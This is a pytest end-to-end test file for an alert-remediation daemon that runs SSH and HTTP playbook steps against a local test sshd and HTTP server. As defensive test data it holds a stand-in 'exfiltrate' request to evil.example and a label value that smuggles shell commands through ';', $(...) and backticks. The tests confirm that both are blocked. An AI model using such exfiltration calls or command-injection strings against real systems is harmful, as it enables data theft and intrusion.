"""Runs that really execute: an alert through the daemon to SSH steps on a real sshd and HTTP
steps on a real server, with the results read back through `suture runs show --json`."""

from __future__ import annotations

import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import DaemonProcess, free_port, run_cli, wait_for, write_config
from tests.payloads import am_alert, am_body
from tests.support.httpserver import TestHttpServer, respond
from tests.support.sshd import SshServer

CODES = """
- code: REM-001
  title: Remediate through ssh and http
  severity: high
  match: {alertname: Remediate}
  target: "{{ labels.instance }}"
  playbook: remediate
  mode: auto
- code: INJ-001
  title: Label value reaches a command
  severity: low
  match: {alertname: Inject}
  target: "{{ labels.instance }}"
  playbook: inject
  mode: auto
- code: HUNG-001
  title: A command that never ends
  severity: low
  match: {alertname: Hung}
  target: "{{ labels.instance }}"
  playbook: hung
  mode: auto
- code: FLAKY-001
  title: HTTP 500 then 200
  severity: low
  match: {alertname: Flaky}
  target: "{{ labels.instance }}"
  playbook: flaky-http
  mode: auto
- code: EVIL-001
  title: HTTP to a host outside the allow-list
  severity: low
  match: {alertname: Evil}
  target: "{{ labels.instance }}"
  playbook: evil-http
  mode: auto
- code: UNDEF-001
  title: Template with a label the alert lacks
  severity: low
  match: {alertname: Undefined}
  target: "{{ labels.instance }}"
  playbook: undefined-name
  mode: auto
- code: DRY-001
  title: Rehearsal of the remediate playbook
  severity: low
  match: {alertname: Rehearse}
  target: "{{ labels.instance }}"
  playbook: remediate
  mode: auto
  dry_run: true
- code: FIXFAIL-001
  title: Verification fails, rollback runs
  severity: low
  match: {alertname: RollMeBack}
  target: "{{ labels.instance }}"
  playbook: roll-back
  mode: auto
"""

PLAYBOOKS = {
    "remediate": """
        name: remediate
        version: 1
        steps:
          - name: touch marker
            ssh: {command: "touch {{ annotations.marker }} && echo created on {{ target }}"}
            register: touched
          - name: tell the hook
            http:
              method: POST
              url: "{{ annotations.hook }}"
              json: {text: "fixed {{ target }}", said: "{{ touched.stdout | trim }}"}
              expect_status: [200]
        verify:
          - name: marker exists
            ssh: {command: "test -f {{ annotations.marker }}"}
    """,
    "inject": """
        name: inject
        version: 1
        steps:
          - name: write the label
            ssh: {command: "printf '%s' {{ labels.payload }} > {{ annotations.out }}"}
    """,
    "hung": """
        name: hung
        version: 1
        steps:
          - name: never ends
            ssh: {command: "sleep 300 # suture-hung-marker"}
            timeout: 1s
    """,
    "flaky-http": """
        name: flaky-http
        version: 1
        steps:
          - name: flaky endpoint
            http: {method: POST, url: "{{ annotations.hook }}", json: {n: 1}, expect_status: [200]}
            retries: 2
            retry_delay: 100ms
    """,
    "evil-http": """
        name: evil-http
        version: 1
        steps:
          - name: exfiltrate
            http: {method: GET, url: "http://evil.example/steal"}
    """,
    "undefined-name": """
        name: undefined-name
        version: 1
        steps:
          - name: uses a missing label
            ssh: {command: "df {{ labels.mountpont }}"}
    """,
    "roll-back": """
        name: roll-back
        version: 1
        steps:
          - name: change something
            ssh: {command: "echo changed > {{ annotations.marker }}"}
        verify:
          - name: impossible check
            ssh: {command: "false"}
        rollback:
          - name: undo
            ssh: {command: "rm -f {{ annotations.marker }}"}
    """,
}


def _files() -> dict[str, str]:
    files = {"codes/zz-e2e.yaml": CODES}
    files.update({f"playbooks/{name}.yaml": textwrap.dedent(body) for name, body in PLAYBOOKS.items()})
    return files


def _sections(sshd: SshServer, known_hosts: Path | None = None) -> dict[str, Any]:
    return {
        "ssh": {
            "user": sshd.user,
            "key_file": str(sshd.key_file),
            "known_hosts": str(known_hosts or sshd.known_hosts),
            "connect_timeout": "3s",
        },
        "inventory": [
            {"match": "sshhost", "address": "127.0.0.1", "port": sshd.port},
            {"match": "deadhost", "address": "127.0.0.1", "port": 1},
        ],
        "http": {"allowed_hosts": ["127.0.0.1"]},
        "workers": {"concurrency": 4},
    }


@pytest.fixture(scope="module")
def daemon(sshd: SshServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DaemonProcess]:
    """One SQLite daemon with the e2e catalog for the module, reaching the real sshd through
    inventory; each test fires its own fingerprints and reads its own runs."""
    folder = tmp_path_factory.mktemp("remediation")
    port = free_port()
    config = write_config(folder / "site", f"sqlite:///{folder / 'e2e.db'}", port=port, **_sections(sshd))
    for relative, text in _files().items():
        (config.parent / relative).write_text(text)
    process = DaemonProcess(config, port).start()
    try:
        yield process
    finally:
        process.stop()


def _fire(
    daemon: DaemonProcess, alertname: str, fingerprint: str, instance: str = "sshhost", **annotations: str
) -> int:
    alert = am_alert(alertname, fingerprint=fingerprint, instance=instance)
    alert["annotations"].update(annotations)
    response = daemon.post("alertmanager", am_body(alert))
    assert response.status_code == 202, response.text
    [run_id] = response.json()["runs_queued"]
    return int(run_id)


def _finished(daemon: DaemonProcess, run_id: int, timeout: float = 20.0) -> dict[str, Any]:
    """The run as `suture runs show` prints it, once the API says it has finished."""
    wait_for(lambda: daemon.get(f"/api/v1/runs/{run_id}")["finished_at"], timeout=timeout, interval=0.1)
    return daemon.cli("runs", "show", str(run_id))  # type: ignore[no-any-return]


def test_alert_to_ssh_and_http_steps_end_to_end(
    daemon: DaemonProcess, hook: TestHttpServer, tmp_path: Path
) -> None:
    """An auto code's run creates a file through sshd, reaches the HTTP server, verifies, and is recorded."""
    marker = tmp_path / "remediated.flag"
    run_id = _fire(daemon, "Remediate", "rem1", marker=str(marker), hook=hook.url_for("/chat"))
    run = _finished(daemon, run_id)
    assert run["status"] == "succeeded", run
    assert marker.exists()
    [request] = hook.requests
    assert request.method == "POST" and request.path == "/chat"
    assert request.json() == {"text": "fixed sshhost", "said": "created on sshhost"}
    steps = {s["name"]: s for s in run["steps"]}
    assert steps["touch marker"]["action"] == "ssh" and steps["touch marker"]["exit_code"] == 0
    assert steps["touch marker"]["stdout"] == "created on sshhost\n"
    assert steps["touch marker"]["params"]["command"] == f"touch {marker} && echo created on sshhost"
    assert steps["tell the hook"]["http_status"] == 200 and steps["tell the hook"]["phase"] == "steps"
    assert steps["marker exists"]["phase"] == "verify" and steps["marker exists"]["status"] == "succeeded"
    assert all(s["duration_ms"] >= 0 and s["attempt"] == 1 and s["started_at"] for s in run["steps"])
    incident = daemon.cli("incidents", "show", str(run["incident_id"]))
    assert incident["remediated_at"] is not None
    # The monitoring system then sees the problem gone: the run is judged effective (at once).
    resolved = am_alert("Remediate", fingerprint="rem1", instance="sshhost", status="resolved")
    assert daemon.post("alertmanager", am_body(resolved)).status_code == 202
    wait_for(lambda: daemon.get(f"/api/v1/runs/{run_id}")["effective"] is True, timeout=10)


def test_label_injection_arrives_as_one_literal_argument(daemon: DaemonProcess, tmp_path: Path) -> None:
    """`; touch`, `$(...)` and backticks in a label reach the command as one argument and run nothing."""
    pwned = [tmp_path / f"pwned{i}" for i in range(3)]
    payload = f"x; touch {pwned[0]} $(touch {pwned[1]}) `touch {pwned[2]}` {{{{7*7}}}}"
    out = tmp_path / "out.txt"
    alert = am_alert("Inject", fingerprint="inj1", instance="sshhost", payload=payload)
    alert["annotations"]["out"] = str(out)
    [run_id] = daemon.post("alertmanager", am_body(alert)).json()["runs_queued"]
    run = _finished(daemon, run_id)
    assert run["status"] == "succeeded", run
    assert out.read_text() == payload
    assert not any(p.exists() for p in pwned)


def test_unreachable_host_fails_with_clear_message(daemon: DaemonProcess, tmp_path: Path) -> None:
    """A target whose SSH port is closed ends `failed`, saying it cannot connect to that host."""
    run_id = _fire(
        daemon,
        "Remediate",
        "dead1",
        instance="deadhost",
        marker=str(tmp_path / "m"),
        hook="http://127.0.0.1:1/",
    )
    run = _finished(daemon, run_id)
    assert run["status"] == "failed"
    assert "cannot connect to deadhost" in run["error"]


def test_hung_command_times_out(daemon: DaemonProcess) -> None:
    """A command that never ends is cut at its step timeout and the run ends `timed_out`."""
    run = _finished(daemon, _fire(daemon, "Hung", "hung1"))
    assert run["status"] == "timed_out", run
    assert "timed out" in run["error"]
    assert run["steps"][0]["duration_ms"] < 5000


def test_http_500_is_retried_then_succeeds(daemon: DaemonProcess, hook: TestHttpServer) -> None:
    """A step with retries meets 500, 500, then 200: three attempts recorded, run succeeded."""
    hook.script("/flaky", [respond(500), respond(500), respond(200)])
    run = _finished(daemon, _fire(daemon, "Flaky", "flaky1", hook=hook.url_for("/flaky")))
    assert run["status"] == "succeeded", run
    assert [(s["attempt"], s["http_status"], s["status"]) for s in run["steps"]] == [
        (1, 500, "failed"),
        (2, 500, "failed"),
        (3, 200, "succeeded"),
    ]
    assert len(hook.requests) == 3


def test_http_host_outside_allow_list_is_refused(daemon: DaemonProcess) -> None:
    """An HTTP step to a host not in http.allowed_hosts fails before sending anything."""
    run = _finished(daemon, _fire(daemon, "Evil", "evil1"))
    assert run["status"] == "failed"
    assert "evil.example" in run["error"] and "allowed_hosts" in run["error"]


def test_undefined_template_name_fails_the_run(daemon: DaemonProcess) -> None:
    """A template naming a label the alert lacks fails the step with a message naming it; nothing runs."""
    run = _finished(daemon, _fire(daemon, "Undefined", "undef1"))
    assert run["status"] == "failed"
    assert "mountpont" in run["error"]
    assert run["steps"][0]["exit_code"] is None


def test_failed_verification_rolls_back(daemon: DaemonProcess, tmp_path: Path) -> None:
    """When verification fails the rollback steps run and the run ends `rolled_back`."""
    marker = tmp_path / "changed"
    run = _finished(daemon, _fire(daemon, "RollMeBack", "rb1", marker=str(marker)))
    assert run["status"] == "rolled_back", run
    assert [(s["phase"], s["status"]) for s in run["steps"]] == [
        ("steps", "succeeded"),
        ("verify", "failed"),
        ("rollback", "succeeded"),
    ]
    assert not marker.exists()
    incident = daemon.cli("incidents", "show", str(run["incident_id"]))
    assert incident["remediated_at"] is None


def test_changed_host_key_is_refused(daemon_factory: Any, sshd: SshServer, tmp_path: Path) -> None:
    """With a different key for the host in known_hosts the run fails and says the key changed."""
    daemon = daemon_factory(
        f"sqlite:///{tmp_path / 'k.db'}",
        files=_files(),
        **_sections(sshd, known_hosts=sshd.wrong_known_hosts()),
    )
    run = _finished(
        daemon, _fire(daemon, "Remediate", "key1", marker=str(tmp_path / "m"), hook="http://127.0.0.1:1/")
    )
    assert run["status"] == "failed"
    assert "CHANGED" in run["error"]
    assert not (tmp_path / "m").exists()


def test_manual_run_and_dry_run_from_cli(daemon: DaemonProcess, hook: TestHttpServer, tmp_path: Path) -> None:
    """`suture run` prints each step; --dry-run renders and records but executes nothing."""
    marker = tmp_path / "manual.flag"
    alert = am_alert("Remediate", fingerprint="man1", instance="sshhost")
    alert["annotations"].update(marker=str(marker), hook=hook.url_for("/chat"))
    alert_file = tmp_path / "alert.json"
    import json

    alert_file.write_text(json.dumps(am_body(alert)))
    dry = run_cli(
        "run", "remediate", "--alert", str(alert_file), "--dry-run", config=daemon.config_path, check=False
    )
    assert dry.returncode == 0, dry.stderr
    assert "dry_run" in dry.stdout and "touch marker" in dry.stdout
    assert not marker.exists() and hook.requests == []
    real = run_cli("run", "remediate", "--alert", str(alert_file), config=daemon.config_path, check=False)
    assert real.returncode == 0, real.stdout + real.stderr
    assert "run finished: succeeded" in real.stdout
    assert marker.exists() and len(hook.requests) == 1
    manual = [r for r in daemon.cli("runs", "list") if r["trigger"] == "manual"]
    assert sorted(r["dry_run"] for r in manual) == [False, True]


def test_dry_run_code_records_rendered_steps_and_executes_nothing(
    daemon: DaemonProcess, hook: TestHttpServer, tmp_path: Path
) -> None:
    """A code with `dry_run: true` records every rendered step as dry_run; no file, no HTTP request."""
    marker = tmp_path / "rehearsed.flag"
    run = _finished(daemon, _fire(daemon, "Rehearse", "dry1", marker=str(marker), hook=hook.url_for("/chat")))
    assert run["status"] == "succeeded" and run["dry_run"] is True
    assert [(s["phase"], s["status"]) for s in run["steps"]] == [
        ("steps", "dry_run"),
        ("steps", "dry_run"),
        ("verify", "dry_run"),
    ]
    assert run["steps"][0]["params"]["command"] == f"touch {marker} && echo created on sshhost"
    assert not marker.exists() and hook.requests == []
    assert daemon.cli("incidents", "show", str(run["incident_id"]))["remediated_at"] is None
